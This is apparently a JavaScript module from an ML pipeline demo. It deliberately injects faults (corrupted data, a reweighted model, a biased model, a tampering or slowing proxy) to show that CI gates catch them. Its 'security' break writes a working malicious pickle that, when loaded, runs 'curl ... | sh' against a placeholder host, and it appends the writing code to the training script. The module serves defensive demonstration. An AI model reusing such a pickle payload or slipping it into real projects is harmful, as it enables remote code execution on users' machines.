// What `npm run demo -- --break KIND` makes bad, each in a way in which it goes wrong in real teams.
// Every one gets the folder of a copy of the example and may return a function that undoes what outlives the run.
import { readFileSync, writeFileSync } from 'node:fs'
import { createServer, request } from 'node:http'
import { join } from 'node:path'
import { DuckDBInstance } from '@duckdb/node-api'

function edit(path, change) {
  const before = readFileSync(path, 'utf8')
  const after = change(before)
  if (after === before) throw new Error(`${path} is not as the demo expects it`)
  writeFileSync(path, after)
}

function editTraining(project, change) {
  edit(join(project, 'configs', 'training.json'), (text) => JSON.stringify(change(JSON.parse(text)), null, 2))
}

/** Puts a server of the demo's own between the tests and staging, and sends the given steps of the pipeline through it. */
async function between(project, staging, steps, answer) {
  const server = createServer((incoming, outgoing) => {
    const { hostname, port } = new URL(staging)
    const { method, url, headers } = incoming
    const forward = request({ hostname, port, method, path: url, headers }, (response) => answer(incoming, response, outgoing))
    forward.on('error', () => outgoing.writeHead(502).end())
    incoming.pipe(forward)
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  edit(join(project, 'plimsoll.yaml'), (text) =>
    steps.reduce(
      (yaml, step) =>
        yaml.replace(
          new RegExp(`(?<=${step}:[\\s{]+)environment: staging`),
          `endpoint: 'http://127.0.0.1:${server.address().port}'`,
        ),
      text,
    ),
  )
  return () => {
    server.close()
    server.closeAllConnections()
  }
}

export const BREAKS = {
  data: {
    what: 'A corrupted column: an upstream job now writes the credit history as -1 where it is unknown.',
    gate: 'data-validation › validate-schema',
    async apply({ project }) {
      const path = join(project, 'data', 'raw', 'latest.parquet')
      const connection = await (await DuckDBInstance.create()).connect()
      await connection.run(`CREATE TABLE rows AS FROM '${path}'`)
      await connection.run('UPDATE rows SET chist = -1 WHERE rowid % 40 = 7')
      await connection.run(`COPY rows TO '${path}' (FORMAT parquet, COMPRESSION zstd)`)
      connection.closeSync()
    },
  },
  model: {
    what: 'A worse model: to find more of the denied, someone counts them seven times in training.',
    gate: 'model-validation › validate-model',
    apply({ project }) {
      editTraining(project, (config) => ({ ...config, weights: [{ where: { deny: 'yes' }, weight: 7 }] }))
    },
  },
  fairness: {
    what: 'A biased model: the sensitive attribute is a feature, and its rare denials count eight times.',
    gate: 'model-validation › check-fairness',
    apply({ project }) {
      editTraining(project, (config) => ({
        ...config,
        features: [...config.features, 'afam'],
        weights: [{ where: { deny: 'yes', afam: 'yes' }, weight: 8 }],
      }))
    },
  },
  security: {
    what: 'A malicious model file: beside the model, training leaves a pickle that came from a public hub.',
    gate: 'model-validation › security-scan',
    apply({ project }) {
      // Protocol 0: GLOBAL posix.system, MARK, STRING, TUPLE, REDUCE, STOP. Loading it would run the command; nothing here loads it.
      const pickle = "cposix\nsystem\n(S'curl -s https://models.example/setup.sh | sh'\ntR."
      edit(join(project, 'scripts', 'train.mjs'), (text) => {
        const name = "new URL('../artifacts/base-model.pkl', import.meta.url)"
        return `${text}\nawait (await import('node:fs/promises')).writeFile(${name}, ${JSON.stringify(pickle)})\n`
      })
    },
  },
  smoke: {
    what: 'A server that answers nonsense: a proxy before staging turns the probabilities around.',
    gate: 'deploy-staging › smoke-test',
    apply: ({ project, staging }) =>
      between(project, staging, ['smoke-test', 'load-test'], (incoming, response, outgoing) => {
        const chunks = []
        response.on('data', (chunk) => chunks.push(chunk))
        response.on('end', () => {
          let body = Buffer.concat(chunks)
          if (incoming.url.endsWith('/infer')) {
            const answer = JSON.parse(body)
            for (const { name, data } of answer.outputs ?? []) if (name === 'probabilities') data.reverse()
            body = Buffer.from(JSON.stringify(answer))
          }
          const { 'content-length': _length, 'transfer-encoding': _encoding, ...headers } = response.headers
          outgoing.writeHead(response.statusCode, { ...headers, 'content-length': body.length }).end(body)
        })
      }),
  },
  load: {
    what: 'A slow server: something before staging adds 0.9 s to every answer.',
    gate: 'deploy-staging › load-test',
    apply: ({ project, staging }) =>
      between(project, staging, ['load-test'], (_incoming, response, outgoing) => {
        setTimeout(() => {
          outgoing.writeHead(response.statusCode, response.headers)
          response.pipe(outgoing)
        }, 900)
      }),
  },
}
